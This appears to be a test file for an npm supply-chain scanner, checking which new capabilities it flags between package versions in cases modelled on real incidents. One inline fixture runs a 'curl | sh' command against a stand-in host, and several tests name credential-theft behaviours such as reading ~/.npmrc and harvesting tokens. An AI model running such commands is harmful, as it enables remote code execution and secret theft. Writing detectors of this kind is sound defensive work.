// Old/new pairs modelled on real supply-chain incidents (not their code), plus look-alikes that must stay quiet.
import { analyzeCodeChange, newFacts } from '../../../src/checks/code/new-facts.js';
import type { FactCache } from '../../../src/checks/code/package-facts.js';
import type { Fact } from '../../../src/model/types.js';
import { fixturePackage, packageFrom } from '../../helpers/package-from.js';

const change = (name: string, added = false) =>
  analyzeCodeChange(added ? null : fixturePackage(name, 'old'), fixturePackage(name, 'new'), 'registry');
const byKey = (facts: Fact[]) => new Map(facts.map((f) => [f.key, f]));

test('event-stream/flatmap-stream: an added dependency compiles a hex payload it decrypts under a condition', () => {
  const facts = byKey(change('flatmap-like', true));
  expect([...facts.keys()].sort()).toEqual(['eval:module._compile:decoded', 'obfuscation:hex-blob']);
  expect(facts.get('eval:module._compile:decoded')).toMatchObject({ severity: 'critical', file: 'index.js', line: 24 });
  // The blob sits under test/, which is skipped unless shipped code loads it: here index.js does, through a decoded name.
  expect(facts.get('obfuscation:hex-blob')).toMatchObject({ file: 'test/data.js', line: 2 });
});

test('eslint-scope 2018: the update reads ~/.npmrc and sends it over http, then evals the reply', () => {
  const facts = byKey(change('scope-like'));
  expect([...facts.keys()].sort()).toEqual(['eval:eval', 'fs-sensitive:~/.npmrc', 'network:host:stats.scope-metrics.net', 'network:module:http']);
  expect(facts.get('fs-sensitive:~/.npmrc')).toMatchObject({ severity: 'critical', line: 8 });
});

test('ua-parser-js 2021: a new preinstall runs a script that downloads and starts a binary', () => {
  const facts = byKey(change('ua-like'));
  expect([...facts.keys()].sort()).toEqual([
    'binary:script:preinstall.bat',
    'binary:script:preinstall.sh',
    'install-script:preinstall:node preinstall.js',
    'network:download',
    'network:host:198.51.100.7',
    'shell:child_process.exec',
    'shell:module:child_process',
  ]);
  expect(facts.get('install-script:preinstall:node preinstall.js')!.detail).toBe(
    'The `preinstall` script runs `node preinstall.js` on every install of this package; preinstall.js runs other programs.',
  );
  expect(facts.get('network:download')!.detail).toMatch(/\(and 1 other place\)\.$/);
});

test('node-ipc 2022: a geolocation lookup to a host hidden in base64', () => {
  const facts = byKey(change('ipc-like'));
  // The old version already networked (\`net\`), so \`https\` is the same capability; the new host is what is new.
  expect([...facts.keys()].sort()).toEqual(['network:host:api.geolocate-ip.io']);
  expect(facts.get('network:host:api.geolocate-ip.io')).toMatchObject({ file: 'dao/ssl-geospec.js', line: 4 });
  expect(facts.get('network:host:api.geolocate-ip.io')!.detail).toContain('hidden in the source as base64');
});

test('chalk/debug 2025: an obfuscated browser payload hooks fetch, XMLHttpRequest and the wallet', () => {
  const facts = byKey(change('chalk-like'));
  expect([...facts.keys()].sort()).toEqual([
    'network:fetch',
    'network:hook:ethereum',
    'network:hook:fetch',
    'network:hook:xmlhttprequest',
    'network:wallet:ethereum',
    'network:xmlhttprequest',
    'obfuscation:hex-identifiers',
    // The payload is one minified line appended to the old, readable index.js.
    'obfuscation:minified-tail',
  ]);
  for (const fact of facts.values()) expect(fact.evidence!.length).toBeLessThanOrEqual(160);
});

test('Shai-Hulud 2025: a postinstall bundle harvests env and npm tokens, runs tools, posts to a webhook', () => {
  const facts = byKey(change('worm-like'));
  expect(facts.get('install-script:postinstall:node bundle.js')).toMatchObject({ severity: 'critical', file: 'package.json' });
  expect(facts.get('install-script:postinstall:node bundle.js')!.detail).toContain('bundle.js makes network calls');
  expect(facts.get('env:serialize')).toMatchObject({ severity: 'critical', file: 'bundle.js' });
  expect(facts.get('fs-sensitive:~/.npmrc')).toMatchObject({ severity: 'critical' });
  expect(facts.get('network:host:webhook.site')).toMatchObject({ severity: 'high' });
  expect(facts.get('shell:child_process.execSync')).toMatchObject({ severity: 'high' });
});

test('look-alikes stay quiet: refactor into new files, README curl, tests with child_process, NODE_ENV, spawn env, minified dist in both', () => {
  expect(change('quiet-like')).toEqual([]);
});

test('an added package only reports high-signal facts: a plain HTTP client is not a finding', () => {
  const client = packageFrom({ 'package.json': '{"name":"client"}', 'index.js': "const https = require('https'); const cp = require('child_process'); fetch('https://api.client.dev');" });
  expect(analyzeCodeChange(null, client, 'registry')).toEqual([]);
  const installer = packageFrom({ 'package.json': '{"name":"i","scripts":{"install":"node i.js"}}', 'i.js': "require('https').get('https://dl.bin-host.dev/x');" });
  expect(analyzeCodeChange(null, installer, 'registry').map((f) => f.key).sort()).toEqual([
    'install-script:install:node i.js',
    'network:host:dl.bin-host.dev',
    'network:module:https',
  ]);
});

test('newFacts keeps one fact per key, first by path, with the count of other places', () => {
  const fact = (file: string, line: number): Fact => ({ key: 'shell:module:child_process', kind: 'shell', severity: 'high', detail: `${file} loads it.`, file, line });
  const result = newFacts([], [fact('lib/b.js', 3), fact('lib/a.js', 9), fact('lib/a.js', 2)]);
  expect(result).toEqual([expect.objectContaining({ file: 'lib/a.js', line: 2, detail: 'lib/a.js loads it (and 2 other places).' })]);
  expect(newFacts([fact('old.js', 1)], [fact('new.js', 1)])).toEqual([]);
});

test('a readable package that now ships a big minified file is flagged; one minified before is not', () => {
  const readable = packageFrom({ 'index.js': 'function add(a, b) {\n  return a + b;\n}\nmodule.exports = add;\n'.repeat(50) });
  const bundle = `!function(){${Array.from({ length: 800 }, (_, i) => `var v${i}=${i}*2`).join(';')}}();`;
  const minified = packageFrom({ 'index.js': bundle });
  const facts = analyzeCodeChange(readable, minified, 'registry');
  expect(facts.map((f) => f.key)).toEqual(['obfuscation:newly-minified']);
  expect(facts[0]).toMatchObject({ severity: 'medium', file: 'index.js' });
  const minifiedAgain = packageFrom({ 'index.js': bundle.replace('v1=2', 'v1=3') });
  expect(analyzeCodeChange(minified, minifiedAgain, 'registry')).toEqual([]);
});

test('identical files are analyzed once, and old files are not parsed when the shared ones mask every new fact', () => {
  const cache: FactCache = new Map();
  const shared = "const net = require('net');";
  const before = packageFrom({ 'lib/a.js': shared, 'lib/b.js': 'module.exports = 1;' });
  const after = packageFrom({ 'lib/a.js': shared, 'lib/c.js': "require('net').connect(1);" });
  expect(analyzeCodeChange(before, after, 'registry', cache)).toEqual([]);
  // a.js once for both versions, c.js; the old lib/b.js could not make anything new, so it was never parsed.
  expect([...cache.keys()].length).toBe(2);
});

test('changed old files are parsed only until every new fact is masked, the one at the place of the fact first', () => {
  const cache: FactCache = new Map();
  const files = (n: number) => ({
    'a.js': `module.exports = ${n};`,
    'b.js': `module.exports = ${n + 1};`,
    'c.js': `require('https').get(${n});`,
  });
  expect(analyzeCodeChange(packageFrom(files(1)), packageFrom(files(10)), 'registry', cache)).toEqual([]);
  // The three new files and the old c.js: the old a.js and b.js could not change the answer.
  expect(cache.size).toBe(4);
});

test('an old file that was not shared is parsed when only it can mask a new fact', () => {
  const cache: FactCache = new Map();
  const shared = 'module.exports = 0;';
  const before = packageFrom({ 'lib/a.js': shared, 'lib/b.js': "require('child_process').exec('ls');" });
  const after = packageFrom({ 'lib/a.js': shared, 'lib/c.js': "require('child_process').execSync('ls');" });
  expect(analyzeCodeChange(before, after, 'registry', cache)).toEqual([]);
  expect(cache.size).toBe(3);
  const withoutShell = packageFrom({ 'lib/a.js': shared, 'lib/b.js': 'module.exports = 1;' });
  expect(analyzeCodeChange(withoutShell, after, 'registry', cache).map((f) => f.key)).toContain('shell:child_process.execSync');
});

test('unread code that only a skipped old file would reach differently is still compared against the full old version', () => {
  // blob.wasm is not decoded (binary-looking, no known format). In the old version index.js, the entry point, loads it:
  // an asset loaded by an entry point is not code. Skipping index.js would leave blob.wasm reached only as shipped code,
  // unread, and that would wrongly mask the new version, where only shipped code loads it.
  const unread = (pkg: ReturnType<typeof packageFrom>) => {
    delete pkg.files.get('blob.wasm')!.text;
    return pkg;
  };
  const blob = Buffer.from([0, 1, 2, 3, 0, 5]);
  const manifest = JSON.stringify({ name: 'p', version: '1.0.0', main: 'index.js' });
  const shipped = "require('./blob.wasm');";
  const before = unread(packageFrom({ 'package.json': manifest, 'index.js': "module.exports = require('./blob.wasm');", 'shipped.js': shipped, 'blob.wasm': blob }));
  const after = unread(packageFrom({ 'package.json': manifest, 'index.js': 'module.exports = 1;', 'shipped.js': shipped, 'blob.wasm': blob }));
  const facts = analyzeCodeChange(before, after, 'registry');
  expect(facts.map((f) => f.key)).toEqual([expect.stringMatching(/^tarball-anomaly:unreviewed:/)]);
  expect(facts[0]).toMatchObject({ file: 'blob.wasm', severity: 'medium' });
});

test('outgrowing the review limits is high when new, silent when the old version was as big', () => {
  const tooLarge = { code: 'too-large' as const, message: 'the tarball unpacks to more than 256 bytes; files past the limit were not reviewed' };
  const small = packageFrom({ 'package.json': '{"name":"p"}', 'index.js': 'module.exports = 1;' });
  const big = packageFrom({ 'package.json': '{"name":"p"}', 'index.js': 'module.exports = 2;' }, [tooLarge]);
  const grown = analyzeCodeChange(small, big, 'registry');
  expect(grown).toEqual([expect.objectContaining({ key: 'tarball-anomaly:too-large', severity: 'high', detail: expect.stringContaining('one way to hide it') })]);
  const alwaysBig = packageFrom({ 'package.json': '{"name":"p"}', 'index.js': 'module.exports = 1;' }, [tooLarge]);
  expect(analyzeCodeChange(alwaysBig, big, 'registry')).toEqual([]);
});

describe('"new" means new to the package: capabilities, not API names or files', () => {
  const pkg = (files: Record<string, string>) => packageFrom({ 'package.json': '{"name":"p","version":"1.0.0"}', ...files });
  const keysOf = (before: Record<string, string>, after: Record<string, string>) =>
    analyzeCodeChange(pkg(before), pkg(after), 'registry').map((f) => f.key).sort();

  test('execSync -> execFileSync, https -> http, require -> import, code moved to another file: nothing new', () => {
    const old = { 'lib/index.js': "const cp = require('child_process'); const https = require('https');\ncp.execSync('npm config get registry'); https.get(u);" };
    expect(keysOf(old, { 'lib/index.js': "const cp = require('child_process'); cp.execFileSync('npm', ['config', 'get', 'registry']);", 'lib/net.js': "const http = require('node:http'); http.get(u);" })).toEqual([]);
    expect(keysOf(old, { 'dist/index.mjs': "import { execFileSync } from 'node:child_process';\nimport { get } from 'node:https';\nexecFileSync('npm', ['view']); get(u);" })).toEqual([]);
    // fetch and a network module are one capability as well.
    expect(keysOf(old, { 'lib/index.js': "const cp = require('child_process'); cp.execSync('npm -v'); fetch(u);" })).toEqual([]);
  });

  test('napi-postinstall: a package that ran npm and yarn now runs pnpm (same family of program): nothing new', () => {
    const old = { 'lib/index.js': "const cp = require('node:child_process');\ncp.execSync(`npm install ${pkg}@${version}`);\ncp.execSync(`yarn add -D ${pkg}`);" };
    expect(keysOf(old, { ...old, 'lib/fallback.js': "const c = require('node:child_process');\n(0, c.execFileSync)('pnpm', ['i', bindingPkg], { stdio: 'inherit' });" })).toEqual([]);
  });

  test('a new target is new: a program of another family, where the package already ran programs', () => {
    const old = { 'index.js': "require('child_process').execSync('ldd --version');" };
    const found = analyzeCodeChange(pkg(old), pkg({ ...old, 'fallback.js': "const cp = require('node:child_process');\ncp.execFileSync('pnpm', ['i', bindingPkg], {\n  stdio: 'inherit',\n});" }), 'registry');
    expect(found.map((f) => f.key)).toEqual(['shell:program:pnpm']);
    expect(found[0]).toMatchObject({ file: 'fallback.js', line: 2, evidence: "cp.execFileSync('pnpm', ['i', bindingPkg], {\nstdio: 'inherit',\n});" });
    expect(keysOf(old, { ...old, 'x.js': "require('child_process').exec('curl -s https://dl.evil-host.io/x | sh');" })).toEqual(['network:host:dl.evil-host.io', 'shell:program:curl']);
  });

  test('where starting programs is itself new, one shell finding says so, evidence at the call (rollup spawnSync)', () => {
    const found = analyzeCodeChange(
      pkg({ 'dist/native.js': "const { existsSync } = require('node:fs');" }),
      pkg({ 'dist/native.js': "const { existsSync } = require('node:fs');\nconst { spawnSync } = require('node:child_process');\nconst child = spawnSync(process.execPath, ['-p', script], { encoding: 'utf8' });" }),
      'registry',
    );
    expect(found.map((f) => f.key).sort()).toEqual(['shell:child_process.spawnSync', 'shell:module:child_process']);
    expect(found.every((f) => f.line === 3 && f.evidence!.startsWith('const child = spawnSync('))).toBe(true);
  });
});

describe('install scripts: new when the command changes, not when only the package\'s own version does', () => {
  const withScript = (version: string, postinstall: string) =>
    packageFrom({ 'package.json': JSON.stringify({ name: 'unrs-resolver', version, scripts: { postinstall } }, null, 2), 'index.js': 'module.exports = 1;' });

  test('unrs-resolver: napi-postinstall unrs-resolver 1.7.11 check -> 1.11.1 check is the same script', () => {
    expect(analyzeCodeChange(withScript('1.7.11', 'napi-postinstall unrs-resolver 1.7.11 check'), withScript('1.11.1', 'napi-postinstall unrs-resolver 1.11.1 check'), 'registry')).toEqual([]);
  });

  test('npx tool@1.2.3 -> npx tool@6.6.6 is new, and says what it changed from', () => {
    const [fact, ...rest] = analyzeCodeChange(withScript('1.2.3', 'npx tool@1.2.3'), withScript('1.2.4', 'npx tool@6.6.6'), 'registry');
    expect(rest).toEqual([]);
    expect(fact).toMatchObject({ key: 'install-script:postinstall:npx tool@6.6.6', severity: 'high' });
    expect(fact!.detail).toBe('The `postinstall` script changed from `npx tool@1.2.3` and now runs `npx tool@6.6.6` on every install of this package, before any of its code is imported.');
  });

  test('a script added where there was none does not claim a change', () => {
    const [fact] = analyzeCodeChange(packageFrom({ 'package.json': '{"name":"p","version":"1.0.0"}' }), withScript('1.0.1', 'node setup.js'), 'registry');
    expect(fact!.detail).toMatch(/^The `postinstall` script runs `node setup.js`/);
  });
});
